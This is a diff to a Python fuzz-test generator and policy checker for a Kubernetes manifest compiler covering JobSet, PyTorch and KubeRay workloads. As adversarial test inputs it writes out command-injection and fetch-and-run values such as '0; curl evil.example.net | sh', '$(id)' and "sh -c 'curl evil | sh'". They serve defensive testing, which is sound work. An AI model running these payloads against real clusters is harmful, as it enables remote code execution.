@@ -21,8 +21,20 @@ What ``violations`` reads, per rule path (other paths are not judged):
   the generator; contract env is not judged)
 - ``spec.secrets.S``, ``spec.secrets`` ``canAdd: false``: secret volumes
 - ``spec.ports`` ``itemRules.container``, ``spec.ports.P``: container ports of JobSets and Jobs
-- ``limits``: totals over all pods (replicas x completions; Ray head, workers x hosts, submitter)
-- always: CPU and memory requests > 0, and the compiler's own labels name the object truly.
+- ``spec.env.X`` value rules: a variable given by a Secret reference breaks them; kuberay's
+  ``runtimeEnv.env_vars`` (read from ``runtimeEnvYAML``) count as env of every pod
+- ``spec.secrets.*.secretName`` and ``spec.secrets`` ``canAdd: false``: the Secrets env
+  references read, too
+- ``spec.command``: the preStop hook's command and ``runtimeEnv.py_executable``; ``spec.image``:
+  ``runtimeEnv.image_uri`` and ``runtimeEnv.container.image`` too
+- a deadline ``max``: attempts (JobSet ``failurePolicy.maxRestarts`` + 1, RayJob ``backoffLimit``
+  + 1) x (deadline + grace beyond Kubernetes' 30 s)
+- a project with a quota: the queue label is there
+- ``limits``: totals over all pods (replicas x completions; Ray head, workers x hosts, and the
+  submitter: the one written, else KubeRay's default one, 500m and 200Mi)
+- always: CPU and memory requests > 0, the compiler's own labels name the object truly,
+  ``rayStartParams`` carry no shell syntax, worker group names and a pod's toleration keys are
+  unique.
 
 ``T`` matches group names case-insensitively (the emitted names are lower-cased type names).
 """
@@ -42,6 +54,14 @@ DIGEST = "sha256:" + "c" * 64
 COMPILER_LABELS = ("app.kubernetes.io/managed-by",)
 COMPILER_PREFIXES = ("manifest-compiler/", "kueue.x-k8s.io/")
 QUEUE_LABEL = "kueue.x-k8s.io/queue-name"
+# KubeRay's default submitter pod (common/job.go GetDefaultSubmitterContainer)
+KUBERAY_SUBMITTER = {
+    "containers": [
+        {"name": "ray-job-submitter", "resources": {"requests": {"cpu": "500m", "memory": "200Mi"}}}
+    ]
+}
+KUBERNETES_GRACE = 30  # the kubelet's grace period when a pod states none
+SHELL_SYNTAX = set(";&|$`<>()'!#~*?\n\r\t")
 PRIORITY_LABEL = "kueue.x-k8s.io/priority-class"
 
 # ---------------------------------------------------------------------------------------------
@@ -103,6 +123,12 @@ RULES = [
     ("spec.secrets", {"canAdd": False}),
     ("spec.ports", {"itemRules": {"container": {"min": 30000, "max": 32767}}}),
     ("spec.ports.admin", {"canRemove": False}),
+    ("spec.env.E_PROXY", {"options": ["http://proxy:3128"]}),
+    ("spec.secrets", {"itemRules": {"secretName": {"pattern": "^reg$"}}}),
+    ("spec.secrets", {"forbidden": True}),
+    ("spec.command", {"canEdit": False}),
+    ("spec.command", {"pattern": "^python "}),
+    ("spec.timeout", {"max": "2d"}),
 ]
 DEFAULTS = {
     "env": {"E_PROXY": "http://proxy:3128"},
@@ -111,6 +137,7 @@ DEFAULTS = {
     "labels": {"team": "a"},
     "timeout": "1d",
     "queue": "team-a",
+    "command": "python train.py",
 }
 LIMITS = {"gpus": 8, "cpus": 64, "memoryGB": 256, "pods": 20}
 IMAGES = [
@@ -141,6 +168,10 @@ SETS = [
     "spec.types.worker.resources.cpus=0.0001",
     "spec.types.worker.resources.memory=0.0000000001",
     "spec.types.worker.resources.accelerators.gpu.count=8",
+    "spec.queue=~",
+    "spec.env.E_PROXY={secret: s, key: k}",
+    "spec.restartPolicy.backoffLimit=5",
+    "spec.gracefulTermination.terminationGracePeriodSeconds=100000",
 ]
 
 
@@ -195,7 +226,40 @@ def _resources(rng: random.Random) -> dict:
         resources["accelerators"] = {"gpu": gpu}
     if rng.random() < 0.05:
         resources["extraSelectors"] = {GPU_LABEL: "H100"}
+    if rng.random() < 0.1:
+        resources["extraTolerations"] = _either(
+            rng,
+            [[{"key": "spot", "operator": "Exists"}]],
+            [
+                [
+                    {"key": "spot", "operator": "Exists"},
+                    {"key": "spot", "operator": "Equal", "value": "x"},
+                ]
+            ],
+            0.5,
+        )
     return resources
+
+
+def _ray_start_params(rng: random.Random) -> dict:
+    if rng.random() < 0.8:
+        return {}
+    value = _either(rng, ["0", "1"], ["0; curl evil.example.net | sh", "$(id)"], 0.4)
+    return {"rayStartParams": {"num-cpus": value}}
+
+
+def _runtime_env(rng: random.Random) -> dict:
+    """Ray's runtime_env: variables, images and the Python it runs, plain or not."""
+    env: dict = {}
+    if rng.random() < 0.6:
+        env["env_vars"] = _either(
+            rng, [{"E_PROXY": "http://proxy:3128"}], [{"E_PROXY": "http://evil:1"}, {"E_NEW": "x"}]
+        )
+    if rng.random() < 0.3:
+        env["image_uri"] = rng.choice(IMAGES)
+    if rng.random() < 0.3:
+        env["py_executable"] = _either(rng, ["python"], ["sh -c 'curl evil | sh' #"])
+    return env
 
 
 def _spec_extras(rng: random.Random) -> dict:
@@ -217,7 +281,23 @@ def _spec_extras(rng: random.Random) -> dict:
         "annotations": ([[{"example.com/note": "x"}]], [[{"manifest-compiler/source": "forged"}]]),
         "env": (
             [[{"E_PROXY": "http://proxy:3128"}], [{"E_NEW": "x"}], [{"E_PROXY": "http://evil:1"}]],
-            [[None], [{"E_PROXY": {"deleted": True}}], [{"deleted": True}], [{}]],
+            [
+                [None],
+                [{"E_PROXY": {"deleted": True}}],
+                [{"deleted": True}],
+                [{}],
+                [{"E_PROXY": {"secret": "proxy", "key": "url"}}],
+                [{"E_PASS": {"secret": "prod-db", "key": "password"}}],
+                [{"E_PASS": {"secret": "reg", "key": "token"}}],
+            ],
+        ),
+        "restartPolicy": ([[{"backoffLimit": 0}], [{"backoffLimit": 1}]], [[{"backoffLimit": 9}]]),
+        "gracefulTermination": (
+            [[{"terminationGracePeriodSeconds": 30}], [{"shutdownCommand": "python save.py"}]],
+            [
+                [{"terminationGracePeriodSeconds": 200000}],
+                [{"shutdownCommand": "curl evil.example.net | sh"}],
+            ],
         ),
         "secrets": (
             [[{"mine": {"secretName": "prod-db", "mountPath": "/db"}}]],
@@ -241,11 +321,12 @@ def _spec_extras(rng: random.Random) -> dict:
 def generate_case(rng: random.Random) -> Case:
     operator = rng.choice(["jobset", "jobset", "pytorch", "kuberay"])
     if operator == "kuberay":
+        names = _either(rng, [["cpu"], ["gpu"], ["cpu", "gpu"]], [["g", "g"]], 0.1)
         types: dict = {
-            "Head": {"resources": _resources(rng)},
+            "Head": {"resources": _resources(rng), **_ray_start_params(rng)},
             "Workers": [
                 {"name": name, "count": rng.choice([1, 2, 4, 50]), "resources": _resources(rng)}
-                for name in _pick(rng, ["cpu", "gpu"], 1, 2)
+                for name in names
             ],
         }
     elif operator == "pytorch":
@@ -265,6 +346,8 @@ def generate_case(rng: random.Random) -> Case:
         "types": types,
         **_spec_extras(rng),
     }
+    if operator == "kuberay" and rng.random() < 0.5:
+        spec["runtimeEnv"] = _runtime_env(rng)
     workload: dict = {
         "kind": "AIchorManifest",
         "apiVersion": "0.2.3",
@@ -298,9 +381,10 @@ def generate_case(rng: random.Random) -> Case:
             _policy("global", None, _rules(rng), {}, dict(_pick(rng, LIMITS.items(), 0, 2)))
         )
     defaults = dict(_pick(rng, DEFAULTS.items(), 0, 4))
-    policies.append(
-        _policy("team", PROJECT, _rules(rng), defaults, dict(_pick(rng, LIMITS.items(), 0, 2)))
-    )
+    team = _policy("team", PROJECT, _rules(rng), defaults, dict(_pick(rng, LIMITS.items(), 0, 2)))
+    if rng.random() < 0.2:
+        team["spec"]["quota"] = {"cpus": 1000, "memoryGB": 4000, "gpus": 64}
+    policies.append(team)
     sets = _pick(rng, SETS, 0, 2) if rng.random() < 0.4 else []
     return Case(policies, workload, templates, sets, image_digest)
 
@@ -410,6 +494,7 @@ class Group:
     pod: dict
     deadline: int | None
     kind: str
+    kuberays_own: bool = False  # KubeRay's default submitter: no env, volumes or hooks of ours
 
 
 def groups_of(obj: dict) -> list[Group]:
@@ -460,6 +545,11 @@ def groups_of(obj: dict) -> list[Group]:
         submitter = spec.get("submitterPodTemplate")
         if submitter:
             out.append(Group("submitter", 1, None, submitter["spec"], deadline, kind))
+        else:  # KubeRay's own (K8sJobMode): a pod all the same, of the head's image
+            head_image = _main(out[0]).get("image", "")
+            (container,) = KUBERAY_SUBMITTER["containers"]
+            pod = {"containers": [{**container, "image": head_image}]}
+            out.append(Group("submitter", 1, None, pod, deadline, kind, kuberays_own=True))
         return out
     return []
 
@@ -468,9 +558,28 @@ def _containers(pod: dict) -> list[dict]:
     return list(pod.get("containers") or [])
 
 
+def _project(policy: dict) -> str | None:
+    return (policy.get("metadata") or {}).get("project")
+
+
 def _applies(policy: dict, project: str | None) -> bool:
-    scope = (policy.get("metadata") or {}).get("project")
+    scope = _project(policy)
     return scope is None or scope == project
+
+
+def _emitted_runtime_env(obj: dict) -> dict:
+    text = (obj.get("spec") or {}).get("runtimeEnvYAML") if obj.get("kind") == "RayJob" else None
+    return (yaml.safe_load(text) or {}) if text else {}
+
+
+def _attempts(obj: dict) -> int:
+    """How many times the deadline starts afresh."""
+    spec = obj.get("spec") or {}
+    if obj.get("kind") == "RayJob":
+        return 1 + (spec.get("backoffLimit") or 0)
+    if obj.get("kind") == "JobSet" and spec.get("failurePolicy"):
+        return 1 + (spec["failurePolicy"].get("maxRestarts") or 0)
+    return 1
 
 
 def _default(policies: list, own: dict, path: list[str]):
@@ -524,6 +633,9 @@ def violations(policies: list[dict], objects: list[dict], gpu_label: str = GPU_L
         applicable = [p for p in policies if _applies(p, project)]
         groups = groups_of(obj)
         out += _always(obj, groups)
+        quota = any(p.get("spec", {}).get("quota") and _project(p) == project for p in applicable)
+        if quota and not labels.get(QUEUE_LABEL):
+            out.append("no queue label though the project has a quota")
         for policy in applicable:
             for path_text, rule in ((policy.get("spec") or {}).get("rules") or {}).items():
                 path = split_path(path_text)
@@ -561,6 +673,18 @@ def _always(obj: dict, groups: list[Group]) -> list[str]:
             "name"
         ):
             out.append(f"{group.name}: pods claim another workload")
+        keys = [t.get("key") for t in group.pod.get("tolerations") or []]
+        if len(keys) != len(set(keys)):
+            out.append(f"{group.name}: two tolerations of one key {keys}")
+    cluster = (obj.get("spec") or {}).get("rayClusterSpec") or {}
+    specs = [cluster.get("headGroupSpec") or {}] + list(cluster.get("workerGroupSpecs") or [])
+    for group_spec in specs:
+        for key, value in (group_spec.get("rayStartParams") or {}).items():
+            if SHELL_SYNTAX & set(str(key) + str(value)):
+                out.append(f"rayStartParams {key}={value!r} carries shell syntax")
+    names = [w.get("groupName") for w in cluster.get("workerGroupSpecs") or []]
+    if len(names) != len(set(names)):
+        out.append(f"two worker groups of one name {names}")
     return out
 
 
@@ -577,14 +701,19 @@ def _judge(path, rule, policy, policies, obj, groups, gpu_label) -> list[str]:
     labels = ((obj.get("metadata") or {}).get("labels")) or {}
     head = path[:2]
     if path == ["spec", "image"]:
-        return _judge_images(rule, groups)
+        return _judge_images(rule, groups) + _judge_runtime_images(rule, obj)
+    if path == ["spec", "command"]:
+        return _judge_commands(rule, groups, obj)
     if head == ["spec", "types"] and len(path) >= 4:
         return _judge_types(path, rule, groups, gpu_label)
     if path in (["spec", "timeout"], ["spec", "activeDeadlineSeconds"]):
-        return _judge_deadline(path, rule, policies, groups)
+        return _judge_deadline(path, rule, policies, groups) + _judge_run(path, rule, obj, groups)
     if path in (["spec", "queue"], ["spec", "priority"]):
         label = QUEUE_LABEL if path[1] == "queue" else PRIORITY_LABEL
-        return _judge_label(label, rule, labels, _default(policies, policy, path[1:]), path)
+        default = _default(policies, policy, path[1:])
+        if default is None and path[1] == "queue":  # a quota's project queues on its own queue
+            default = next((_project(p) for p in policies if p["spec"].get("quota")), None)
+        return _judge_label(label, rule, labels, default, path)
     if head == ["spec", "labels"] and len(path) == 3:
         return _judge_label(path[2], rule, labels, _default(policies, policy, path[1:]), path)
     if path == ["spec", "labels"] and rule.get("canAdd") is False:
@@ -598,7 +727,7 @@ def _judge(path, rule, policy, policies, obj, groups, gpu_label) -> list[str]:
         ]
         return [f"labels {extra} added under canAdd: false"] if extra else []
     if head == ["spec", "env"]:
-        return _judge_env(path, rule, policy, policies, groups)
+        return _judge_env(path, rule, policy, policies, groups, _emitted_runtime_env(obj))
     if head == ["spec", "secrets"]:
         return _judge_secrets(path, rule, policies, groups)
     if head == ["spec", "ports"] and obj.get("kind") in ("JobSet", "Job"):
@@ -615,6 +744,54 @@ def _judge_images(rule, groups) -> list[str]:
                 out.append(f"image {image!r} does not match {rule['pattern']!r}")
             if "options" in rule and not _image_ok(image, rule["options"]):
                 out.append(f"image {image!r} not in {rule['options']}")
+    return out
+
+
+def _judge_runtime_images(rule, obj) -> list[str]:
+    runtime = _emitted_runtime_env(obj)
+    images = [runtime.get("image_uri"), (runtime.get("container") or {}).get("image")]
+    out = []
+    for image in [i for i in images if isinstance(i, str)]:
+        if "pattern" in rule and not re.search(rule["pattern"], image):
+            out.append(f"runtime env image {image!r} does not match {rule['pattern']!r}")
+        if "options" in rule and image not in rule["options"]:
+            out.append(f"runtime env image {image!r} not in {rule['options']}")
+    return out
+
+
+def _judge_commands(rule, groups, obj) -> list[str]:
+    """What runs besides the command: preStop hooks and Ray's py_executable."""
+    commands = []
+    for group in groups:
+        for container in _containers(group.pod):
+            hook = ((container.get("lifecycle") or {}).get("preStop") or {}).get("exec") or {}
+            if hook.get("command"):
+                commands.append((f"{group.name} preStop", hook["command"][-1]))
+    executable = _emitted_runtime_env(obj).get("py_executable")
+    if isinstance(executable, str):
+        commands.append(("py_executable", executable))
+    out = []
+    for what, command in commands:
+        if rule.get("canEdit") is False or rule.get("forbidden"):
+            out.append(f"{what} {command!r} runs though spec.command is locked")
+        if "pattern" in rule and not re.search(rule["pattern"], command):
+            out.append(f"{what} {command!r} does not match {rule['pattern']!r}")
+    return out
+
+
+def _judge_run(path, rule, obj, groups) -> list[str]:
+    """A deadline max bounds attempts x (deadline + grace beyond the kubelet's default)."""
+    if "max" not in rule:
+        return []
+    out = []
+    attempts = _attempts(obj)
+    for group in groups:
+        if group.deadline is None:
+            continue
+        grace = group.pod.get("terminationGracePeriodSeconds") or KUBERNETES_GRACE
+        run = attempts * (seconds(group.deadline) + max(0, grace - KUBERNETES_GRACE))
+        if run > seconds(rule["max"]) and seconds(group.deadline) <= seconds(rule["max"]):
+            out.append(f"{group.name}: the run may last {run} s, above {'.'.join(path)} max")
     return out
 
 
@@ -677,18 +854,27 @@ def _judge_label(label, rule, labels, default, path) -> list[str]:
 
 
 def _user_env(container: dict) -> dict:
-    return {
-        e["name"]: e.get("value") for e in container.get("env") or [] if e["name"].startswith("E_")
-    }
+    """User variables: a value, or {"secret": name} for a Secret reference."""
+    out = {}
+    for entry in container.get("env") or []:
+        if not entry["name"].startswith("E_"):
+            continue
+        ref = (entry.get("valueFrom") or {}).get("secretKeyRef")
+        out[entry["name"]] = {"secret": ref.get("name")} if ref else entry.get("value")
+    return out
 
 
-def _judge_env(path, rule, policy, policies, groups) -> list[str]:
+VALUE_RULES = ("options", "pattern", "min", "max", "step")
+
+
+def _judge_env(path, rule, policy, policies, groups, runtime) -> list[str]:
     out = []
     defaults = {}
     for other in policies:
         defaults.update(_default([other], other, ["env"]) or {})
-    for group in groups:
-        env = _user_env(_main(group))
+    env_vars = dict(runtime.get("env_vars") or {})
+    for group in [g for g in groups if not g.kuberays_own]:
+        env = {**_user_env(_main(group)), **env_vars}  # Ray sets env_vars over the pod's
         if len(path) == 3:
             name = path[2]
             value = env.get(name)
@@ -700,7 +886,9 @@ def _judge_env(path, rule, policy, policies, groups) -> list[str]:
                     )
             if rule.get("canRemove") is False and name in defaults and name not in env:
                 out.append(f"{group.name}: env {name} removed")
-            if value is not None:
+            if isinstance(value, dict) and any(key in rule for key in VALUE_RULES):
+                out.append(f"{group.name}: env {name} is a Secret reference under a value rule")
+            elif value is not None:
                 out += _scalar_problems(rule, value, f"{group.name} env {name}")
         elif path == ["spec", "env"] and rule.get("canAdd") is False:
             extra = sorted(set(env) - set(defaults))
@@ -719,14 +907,26 @@ def _secret_volumes(pod: dict) -> dict:
     }
 
 
+def _env_secrets(pod: dict) -> set:
+    """The Secrets the containers' env references read."""
+    return {
+        ((e.get("valueFrom") or {}).get("secretKeyRef") or {}).get("name")
+        for container in _containers(pod)
+        for e in container.get("env") or []
+        if ((e.get("valueFrom") or {}).get("secretKeyRef") or {}).get("name")
+    }
+
+
 def _judge_secrets(path, rule, policies, groups) -> list[str]:
     out = []
     defaults = {}
     for other in policies:
         defaults.update(_default([other], other, ["secrets"]) or {})
     wanted = {f"secret-{label}".lower() for label in defaults}
-    for group in groups:
+    default_names = {m.get("secretName") for m in defaults.values() if isinstance(m, dict)}
+    for group in [g for g in groups if not g.kuberays_own]:
         volumes = _secret_volumes(group.pod)
+        read = _env_secrets(group.pod)
         locked = len(path) == 3 and rule.get("canRemove") is False and path[2] in defaults
         if locked and f"secret-{path[2]}".lower() not in volumes:
             out.append(f"{group.name}: secret {path[2]} removed")
@@ -734,6 +934,15 @@ def _judge_secrets(path, rule, policies, groups) -> list[str]:
             extra = sorted(set(volumes) - wanted)
             if extra:
                 out.append(f"{group.name}: secret volumes {extra} added under canAdd: false")
+            if read - default_names:
+                out.append(f"{group.name}: env reads Secrets {sorted(read - default_names)}")
+        if path == ["spec", "secrets"] and rule.get("forbidden"):
+            extra = sorted(set(volumes) - wanted)
+            if extra or read - default_names:
+                out.append(f"{group.name}: Secrets {extra} {sorted(read)} under forbidden")
+        if path == ["spec", "secrets", "*", "secretName"]:
+            for name in sorted(set(volumes.values()) | read):
+                out += _scalar_problems(rule, name, f"{group.name} Secret")
     return out
 
 
